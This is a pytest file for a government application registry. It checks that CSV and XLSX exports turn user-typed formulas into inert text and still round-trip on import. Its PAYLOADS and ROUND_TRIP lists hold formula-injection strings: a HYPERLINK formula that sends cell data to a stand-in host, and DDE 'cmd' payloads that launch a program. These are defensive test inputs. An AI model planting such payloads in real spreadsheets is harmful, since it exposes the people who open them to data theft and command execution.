"""Formula injection: text an OPD or a vendor typed (``=HYPERLINK(..)``, ``+cmd|..``, ``-2+3``, ``@SUM(..)``) comes
back out of every spreadsheet Simpul writes as text — never as a formula — and a registry export still
round-trips on import."""

from __future__ import annotations

import csv
import io

import pytest
import yaml
from openpyxl import load_workbook

from registry.io.spreadsheets import csv_cell, csv_uncell, formula_like, protect_workbook
from tests.hub.inventory.factories import app as inventory_app
from tests.hub.inventory.factories import run as assessment_run

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A2,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A1",
            "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1"]


def _workbook_cells(data: bytes):  # type: ignore[no-untyped-def]
    book = load_workbook(io.BytesIO(data))  # not data_only: a formula would show as one
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield cell


def assert_no_formula(data: bytes, expected: list[str]) -> None:
    cells = list(_workbook_cells(data))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell became a formula"
    found = {c.value for c in cells}
    for text in expected:
        assert text in found, f"{text!r} is not kept as text"
    for cell in cells:
        if formula_like(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_the_rules_of_neutralising():
    for text in PAYLOADS:
        assert formula_like(text) and csv_cell(text) == "'" + text and csv_uncell(csv_cell(text)) == text
    assert formula_like("\t=1+1") and formula_like("\r@x")
    for harmless in ("-5", "+62 342 801234", "-1.5", "Bappeda", "", "'quoted", "e-planning"):
        assert csv_cell(harmless) == harmless and csv_uncell(harmless) == harmless
    assert csv_uncell("'=x") == "=x" and csv_uncell("'x") == "'x"


@pytest.fixture
def hostile_registry(registry_api, registry_loaded, registry_key):  # type: ignore[no-untyped-def]
    admin = registry_key("admin")
    apps = [{"id": f"e-rumus-{i}", "name": text, "description": text, "status": "development", "kode_pemda": "35.72",
             "kode_opd": "5.01.5.05.0.00.01.0000", "area": "perencanaan", "kind": "khusus",
             "contact": {"name": text}} for i, text in enumerate(PAYLOADS)]
    r = registry_api.post("/v1/registry/import", headers={**admin, "Content-Type": "application/yaml"},
                          content=yaml.safe_dump({"applications": apps}).encode())
    assert r.status_code == 200, r.text[:500]
    return admin


def test_registry_csv_export_neutralises_and_round_trips(registry_api, hostile_registry):
    r = registry_api.get("/v1/registry/export?format=csv", headers=hostile_registry)
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if formula_like(c)], "a CSV cell would run as a formula"
    for text in PAYLOADS:
        assert "'" + text in cells
    # import the export again: nothing changes (the apostrophes are taken off)
    again = registry_api.post("/v1/registry/import?dry_run=true", headers={**hostile_registry,
                              "Content-Type": "text/csv"}, content=r.content)
    assert again.status_code == 200, again.text[:500]
    counts = again.json()["counts"]["applications"]
    assert counts["created"] == 0 and counts["updated"] == 0, counts
    names = {registry_api.get(f"/v1/applications/e-rumus-{i}", headers=hostile_registry).json()["name"]
             for i in range(len(PAYLOADS))}
    assert names == set(PAYLOADS)


def test_registry_xlsx_export_keeps_formulas_as_text_and_round_trips(registry_api, hostile_registry):
    r = registry_api.get("/v1/registry/export?format=xlsx", headers=hostile_registry)
    assert r.status_code == 200
    assert_no_formula(r.content, PAYLOADS)
    again = registry_api.post("/v1/registry/import?dry_run=true", headers={**hostile_registry,
                              "Content-Type": XLSX}, content=r.content)
    assert again.status_code == 200, again.text[:500]
    counts = again.json()["counts"]["applications"]
    assert counts["created"] == 0 and counts["updated"] == 0, counts



@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_registry_export_round_trips_text_that_starts_with_an_apostrophe(registry_api, registry_loaded, registry_key,
                                                                         fmt):
    """A user's own apostrophe before a formula (``'=x``) survives export and import, in CSV and in XLSX."""
    admin = registry_key("admin")
    names = ["'=sudah dikutip", "''@dua kali", "=1+1", "'biasa", "O'Brien"]
    apps = [{"id": f"e-kutip-{i}", "name": text, "status": "development", "kode_pemda": "35.72",
             "kode_opd": "5.01.5.05.0.00.01.0000", "area": "perencanaan", "kind": "khusus"}
            for i, text in enumerate(names)]
    r = registry_api.post("/v1/registry/import", headers={**admin, "Content-Type": "application/yaml"},
                          content=yaml.safe_dump({"applications": apps}).encode())
    assert r.status_code == 200, r.text[:500]
    exported = registry_api.get(f"/v1/registry/export?format={fmt}", headers=admin)
    assert exported.status_code == 200
    kind = "text/csv" if fmt == "csv" else XLSX
    again = registry_api.post("/v1/registry/import?dry_run=true", headers={**admin, "Content-Type": kind},
                              content=exported.content)
    assert again.status_code == 200, again.text[:500]
    counts = again.json()["counts"]["applications"]
    assert counts["created"] == 0 and counts["updated"] == 0, (counts, again.json().get("changes"))

def test_web_registry_download_is_neutralised(web, sign_in, registry_loaded):  # type: ignore[no-untyped-def]
    from registry.io import import_batch, read

    with registry_loaded.session() as s:
        apps = [{"id": "e-rumus", "name": PAYLOADS[0], "status": "development", "kode_pemda": "35.72",
                 "kode_opd": "5.01.5.05.0.00.01.0000", "area": "perencanaan", "kind": "khusus"}]
        assert import_batch(s, read(yaml.safe_dump({"applications": apps}).encode(), "yaml"), "test").valid
    sign_in(web, "admin")
    r = web.get("/aplikasi/ekspor?format=csv")
    assert r.status_code == 200 and "'" + PAYLOADS[0].replace('"', '""') in r.text
    x = web.get("/aplikasi/ekspor?format=xlsx")
    assert_no_formula(x.content, [PAYLOADS[0]])


def test_inventory_xlsx_keeps_formulas_as_text():
    from hub.inventory import build_inventory, render_inventory, render_monev
    from hub.inventory import monev as build_monev
    from tests.hub.inventory.factories import AS_OF, OPDS, PEMDA

    apps = [inventory_app("e-rumus", name=PAYLOADS[0], description=PAYLOADS[1],
                          contact={"name": PAYLOADS[2], "position": PAYLOADS[3]})]
    runs = {"e-rumus": assessment_run("e-rumus", {"interoperable": 40}, checks={"INT-001": "fail"})}
    inv = build_inventory(PEMDA, OPDS, apps, runs, as_of=AS_OF)
    for lang in ("id", "en"):
        assert_no_formula(render_inventory(inv, "xlsx", lang), [PAYLOADS[0]])
    worksheet = build_monev(runs, runs, label_a=PAYLOADS[4], label_b=PAYLOADS[0])
    assert_no_formula(render_monev(worksheet, "xlsx", "id"), [])


def test_assessment_xlsx_keeps_formulas_as_text():
    from hub.assessment.models import AssessmentTarget
    from hub.assessment.render import render

    run = assessment_run("e-rumus", checks={"INT-001": "fail", "REL-001": "pass"})
    run = run.model_copy(update={"target": AssessmentTarget(app_id="e-rumus", name=PAYLOADS[0],
                                                            base_url="https://e-rumus.example.go.id",
                                                            area=PAYLOADS[1])})
    assert_no_formula(render(run, "xlsx", "id"), [PAYLOADS[1]])


def test_protect_workbook_leaves_numbers_and_plain_text():
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["=1+1", 5, -3.5, "Bappeda", "-5", "+62 342 801234"])
    protect_workbook(book)
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in row] == ["=1+1", 5, -3.5, "Bappeda", "-5", "+62 342 801234"]
    assert [c.data_type for c in row] == ["s", "n", "n", "s", "s", "s"]


# -- a file Simpul exported, validated again ---------------------------------------------------------------------
ROUND_TRIP = ["=HYPERLINK(\"http://evil.example\")", "+62 342 801234", "-5", "@SUM(1)", "\t=1+1", "\r+x",
              "'=already quoted", "''@twice", "'plain apostrophe", "'-5", "O'Brien", "'", "Bappeda"]


def test_every_value_survives_the_apostrophe_of_the_exporter():
    for text in ROUND_TRIP:
        assert csv_uncell(csv_cell(text)) == text, text
    # only what the exporter adds is taken off: a user's own apostrophe before ordinary text stays
    assert csv_uncell("'plain") == "'plain" and csv_uncell("'-5") == "'-5" and csv_uncell("'=x") == "=x"
    assert csv_cell("'=x") == "''=x"  # so that a user's '=x survives export and import


def _pegawai_rows(names: list[str]) -> tuple[list[str], list[list[str]]]:
    import json
    from pathlib import Path

    base = json.loads((Path(__file__).resolve().parents[2] / "schemas/kepegawaian/pegawai/examples/valid/"
                       "kota_blitar_pns_pranata_komputer.json").read_text(encoding="utf-8"))
    header = ["nip", "jenis_asn", "nama", "gelar_belakang", "tempat_lahir", "tanggal_lahir", "jenis_kelamin",
              "golongan_ruang", "tmt_golongan", "jabatan.nama", "jabatan.jenis_jabatan", "jabatan.eselon",
              "unit_kerja.kode_opd", "unit_kerja.nama", "status_kepegawaian", "kode_pemda"]

    def value(doc: dict, column: str) -> str:
        for part in column.split("."):
            doc = doc.get(part, "") if isinstance(doc, dict) else ""
        return doc  # type: ignore[return-value]

    rows = []
    for text in names:
        doc = {**base, "nama": text, "tempat_lahir": text, "jabatan": {**base["jabatan"], "nama": text}}
        rows.append([value(doc, c) for c in header])
    return header, rows


def test_a_csv_simpul_exported_validates_to_the_same_documents(tmp_path):
    from hub.validation.inputs import parse_csv, parse_xlsx

    header, rows = _pegawai_rows(ROUND_TRIP)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows([csv_cell(v) for v in row] for row in rows)  # the cell rule of every Simpul CSV export
    exported = out.getvalue()
    assert "'=HYPERLINK" in exported and "'''@twice" in exported  # the export is neutralised
    docs = [d.data for d in parse_csv(exported.encode("utf-8"))]
    assert [d["nama"] for d in docs] == ROUND_TRIP
    assert [d["jabatan"]["nama"] for d in docs] == ROUND_TRIP and [d["tempat_lahir"] for d in docs] == ROUND_TRIP

    # and the XLSX export: a quote prefix, no apostrophe in the value, so nothing to take off
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(header)
    for row in rows:
        book.active.append(row)
    protect_workbook(book)
    data = io.BytesIO()
    book.save(data)
    assert [d.data["nama"] for d in parse_xlsx(data.getvalue())] == ROUND_TRIP

